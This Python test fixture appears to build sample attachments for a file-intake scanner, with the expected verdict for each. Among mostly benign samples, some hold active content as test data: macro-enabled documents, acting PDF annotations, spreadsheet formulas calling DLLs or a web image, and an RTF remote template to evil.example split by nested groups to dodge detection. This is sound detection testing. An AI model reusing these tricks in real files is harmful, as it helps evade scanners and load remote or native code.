"""Make files as people's programs make them, and say how each stands after its whole way.

Each stands for a kind of file that was once held, set aside, misread or let through.
"""

import io
from collections.abc import Mapping
from dataclasses import dataclass, field

import pikepdf
from PIL import Image, PngImagePlugin

from tests.intake.sandbox import samples
from tests.samples.files import benign, compound, office
from tests.samples.files.pdf_writing import one_page
from tests.samples.paperwork.files import referral_form_pdf

BINARY = "application/octet-stream"
RELS = office.HEAD + f'<Relationships xmlns="{office.RELATIONSHIPS}">{{}}</Relationships>'
TYPES = office.HEAD + f'<Types xmlns="{office.TYPES}">{{}}</Types>'
ARABIC = "السلام عليكم، وثائق السيدة رقم 14"
REMARK = "Made by hand"


@dataclass(frozen=True)
class Stands:
    """How a file stands after the inspection and the making of its copy.

    `findings` are among those that are found, `words` stand in the copy and `no_words` do not.
    `is_drawn` says that the first page shows something.
    """

    state: str
    reason: str = ""
    findings: frozenset[str] = frozenset()
    words: tuple[str, ...] = ()
    no_words: tuple[str, ...] = ()
    is_drawn: bool = False


@dataclass(frozen=True)
class Sent:
    """A file as it is attached."""

    name: str
    claimed_type: str
    content: bytes = field(repr=False)


def shown(*words: str) -> Stands:
    """Return how a file stands that is shown with these words in its copy."""
    return Stands("CLEAN", words=words)


def drawn() -> Stands:
    """Return how a picture stands that is shown."""
    return Stands("CLEAN", is_drawn=True)


def active(*findings: str) -> Stands:
    """Return how a file stands that does more than show."""
    return Stands("ACTIVE", "active_content", frozenset(findings))


def saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    """Return a picture as a file."""
    target = io.BytesIO()
    picture.save(target, kind, **options)
    return target.getvalue()


def with_words() -> PngImagePlugin.PngInfo:
    """Return a remark as PNG keeps it."""
    words = PngImagePlugin.PngInfo()
    words.add_text("comment", REMARK)
    return words


def word_of_the_web() -> bytes:
    """Return a DOCX whose main part has another name (ECMA-376 part 1, 11.3.10)."""
    parts = office.docx_members("", text="Remiss för Anna")
    main = parts.pop("word/document.xml")
    parts.pop("word/_rels/document.xml.rels")
    named = {
        name: content.replace("word/document.xml", "word/document2.xml")
        for name, content in parts.items()
        if isinstance(content, str)
    }
    return office.package(named | {"word/document2.xml": main})


def two_layers() -> bytes:
    """Return a PDF of which one layer is off."""
    text = b"BT/F1 14 Tf 72 %d Td(%s)Tj ET"
    page = text % (700, b"Visible words") + b"/OC/L BDC " + text % (600, b"Hidden words") + b" EMC"
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    resources = b"/Font<</F1 6 0 R>>/Properties<</L 5 0 R>>"
    written = one_page(page, resources=resources, others={5: b"<</Type/OCG/Name(N)>>", 6: font})
    layers = b"/OCProperties<</OCGs[5 0 R]/D<</OFF[5 0 R]>>>>"
    return written.replace(b"/Pages 2 0 R>>", b"/Pages 2 0 R" + layers + b">>", 1)


def scan_without_loss() -> bytes:
    """Return a PDF of one page that is one picture packed without loss."""
    page = benign.page("L")
    with pikepdf.new() as document:
        picture = document.make_stream(page.tobytes(), compress=True)
        entries = {"Type": "/XObject", "Subtype": "/Image", "ColorSpace": "/DeviceGray"}
        for key, value in entries.items():
            picture[f"/{key}"] = pikepdf.Name(value)
        picture.Width, picture.Height, picture.BitsPerComponent = page.width, page.height, 8
        document.add_blank_page(page_size=(595, 842))
        drawn = document.pages[0]
        drawn.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I=picture))
        drawn.Contents = document.make_stream(b"q 595 0 0 842 0 0 cm /I Do Q")
        target = io.BytesIO()
        document.save(target)
    return target.getvalue()


def sheet_calling(formula: str) -> Sent:
    """Return a workbook of one formula."""
    content = office.xlsx(f"<c><f>{formula}</f><v>1</v></c>")
    return Sent("a.xlsx", benign.XLSX, content)


def package_of(main: str, part: str, **more: str) -> bytes:
    """Return an office package with technical parts and a picture of its first page."""
    types = office.override(f"/{part}", main)
    relation = office.relationship("officeDocument", part, is_external=False)
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES.format(types),
        "_rels/.rels": RELS.format(relation),
        part: office.HEAD + "<a/>",
        "docProps/thumbnail.jpeg": benign.picture("JPEG"),
        **more,
    }
    return office.package(parts)


def pdf_acting(action: dict[str, object]) -> Sent:
    """Return a PDF with an annotation that acts."""
    return Sent("a.pdf", benign.PDF, samples.pdf_with_annotation(pikepdf.Dictionary(action)))


PAGE, FILM = benign.page(), benign.moving_picture
POINT = "application/vnd.ms-powerpoint"
NOT_SHOWN = Stands("HELD", "office_kind_not_allowed")
FILES: Mapping[str, tuple[Sent, Stands]] = {
    "a photo of a telephone": (Sent("a.jpg", "image/jpeg", benign.telephone_photo()), drawn()),
    "a remark in a JPEG": (
        Sent("a.jpg", "image/jpeg", saved(PAGE, "JPEG", comment=REMARK)),
        drawn(),
    ),
    "a remark in a GIF": (Sent("a.gif", "image/gif", saved(PAGE, "GIF", comment=REMARK)), drawn()),
    "a remark in a PNG": (
        Sent("a.png", "image/png", saved(PAGE, "PNG", pnginfo=with_words())),
        drawn(),
    ),
    "a moving PNG": (Sent("a.png", "image/png", FILM("PNG")), drawn()),
    "a PNG called JPEG": (Sent("a.jpg", "image/jpeg", saved(PAGE, "PNG")), drawn()),
    "a WebP called JPEG": (Sent("a.jpg", "image/jpeg", saved(PAGE, "WEBP")), drawn()),
    "a scan packed without loss": (Sent("a.pdf", benign.PDF, scan_without_loss()), drawn()),
    "a table of lines of JSON": (
        Sent("a.ndjson", "application/x-ndjson", b'{"name": "Anna"}\n{"name": "Omar"}\n'),
        shown("Anna", "Omar"),
    ),
    "a text in an old charset": (
        Sent("a.txt", "text/plain; charset=windows-1256", ARABIC.encode("cp1256")),
        shown(ARABIC),
    ),
    "a letter of Word for the web": (
        Sent("a.docx", benign.DOCX, word_of_the_web()),
        shown("Remiss för Anna"),
    ),
    "a filled form": (
        Sent("a.pdf", benign.PDF, referral_form_pdf({"referral_case_code": "DEMO-1234"})),
        shown("DEMO-1234"),
    ),
    "a layer that is off": (
        Sent("a.pdf", benign.PDF, two_layers()),
        Stands("CLEAN", words=("Visible words",), no_words=("Hidden",)),
    ),
    "macros": (
        Sent(
            "a.docm",
            "application/vnd.ms-word.document.macroEnabled.12",
            office.docx(main=office.WORD_MACRO_MAIN, members={"word/vbaProject.bin": b"x" * 99}),
        ),
        active("office_vba_macro"),
    ),
    "a script of a 3D model": (
        pdf_acting({"/Type": pikepdf.Name("/3D"), "/OnInstantiate": pikepdf.String("x")}),
        active("pdf_javascript", "pdf_rich_media"),
    ),
    "a sound": (pdf_acting({"/S": pikepdf.Name.Sound}), active("pdf_rich_media")),
    "a thread": (pdf_acting({"/S": pikepdf.Name.Thread}), active("pdf_thread_action")),
    "an action of layers": (
        pdf_acting({"/S": pikepdf.Name.SetOCGState}),
        active("pdf_layer_action"),
    ),
    "a picture from the web": (
        sheet_calling("_xlfn.IMAGE(&quot;http://a.example/1&quot;)"),
        active("office_web_service"),
    ),
    "a server of numbers": (
        sheet_calling("RTD(&quot;a.b&quot;,,1)"),
        active("office_program_call"),
    ),
    "a library": (sheet_calling("CALL(&quot;a.dll&quot;,1)"), active("office_program_call")),
    "a library by number": (
        sheet_calling("REGISTER.ID(&quot;a.dll&quot;,1)"),
        active("office_program_call"),
    ),
    "a template behind groups": (
        Sent(
            "a.rtf", "application/rtf", rb"{\rtf1{\*\template h{\*\xx }t\'74p:/{}/evil.example/t}a}"
        ),
        active("office_remote_template"),
    ),
    "a binary workbook": (
        Sent(
            "a.xlsb",
            BINARY,
            package_of(
                "application/vnd.ms-excel.sheet.binary.macroEnabled.main", "xl/workbook.bin"
            ),
        ),
        # LibreOffice alone can read it.
        Stands("HELD", "no_copy_type_not_rendered"),
    ),
    "a drawing": (Sent("a.odg", BINARY, office.odt(kind="graphics")), shown()),
    "a database": (Sent("a.odb", BINARY, office.odt(kind="base")), NOT_SHOWN),
    "slides that begin by themselves": (
        Sent(
            "a.ppsx",
            BINARY,
            package_of(
                "application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml",
                "ppt/presentation.xml",
            ),
        ),
        shown(),
    ),
    "slides with macros": (
        Sent(
            "a.pptm",
            BINARY,
            package_of(f"{POINT}.presentation.macroEnabled.main+xml", "ppt/presentation.xml"),
        ),
        active("office_macro_format"),
    ),
    "a printed page": (
        Sent("a.xps", BINARY, package_of("application/xml", "FixedDocumentSequence.fdseq")),
        NOT_SHOWN,
    ),
    "a leaflet": (
        Sent("a.pub", "application/x-mspublisher", compound.write({"Contents": b"Anna" * 99})),
        NOT_SHOWN,
    ),
    "a plan": (
        Sent(
            "a.vsdx",
            BINARY,
            package_of("application/vnd.ms-visio.drawing.main+xml", "visio/document.xml"),
        ),
        NOT_SHOWN,
    ),
}


def photo_with_two_exif() -> bytes:
    """Return a photo whose place was written a second time, as some programs of telephones do."""
    photo = saved(PAGE, "JPEG", exif=benign.camera_exif())
    segment_end = 4 + int.from_bytes(photo[4:6], "big")
    segment = photo[2:segment_end]
    return photo[:segment_end] + segment + photo[segment_end:]
